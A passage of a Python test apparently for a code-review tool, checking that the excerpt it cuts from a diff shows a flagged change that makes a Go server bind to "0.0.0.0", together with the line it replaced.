    rows += ["+" + old.replace("defaultHost(cfg)", '"0.0.0.0"')] + [f"+    tail{i}()" for i in range(10)]
    text = "@@ -10,31 +10,22 @@\n" + "\n".join(rows) + "\n"
    change = FileChange(path="cmd/serve/main.go", rules=["unsafe_value"], risk="high",
                        reasons=['binds on every interface (listenHost → "0.0.0.0"): …flag.String("host", defaultHost(cfg)…'])
    shown = cut_window(change, change.path, text, 700, 200, 3)
    assert shown is not None and '"0.0.0.0"' in shown, shown
    # The removed row kept where its replacement stands right below it: the window shows both.
    near = ["-" + old, "+" + old.replace("defaultHost(cfg)", '"0.0.0.0"')] + [f"+    tail{i}()" for i in range(40)]
    shown = cut_window(change, change.path, "@@ -10,1 +10,41 @@\n" + "\n".join(near) + "\n", 700, 200, 3)
    assert shown is not None and old.strip() in shown and '"0.0.0.0"' in shown, shown
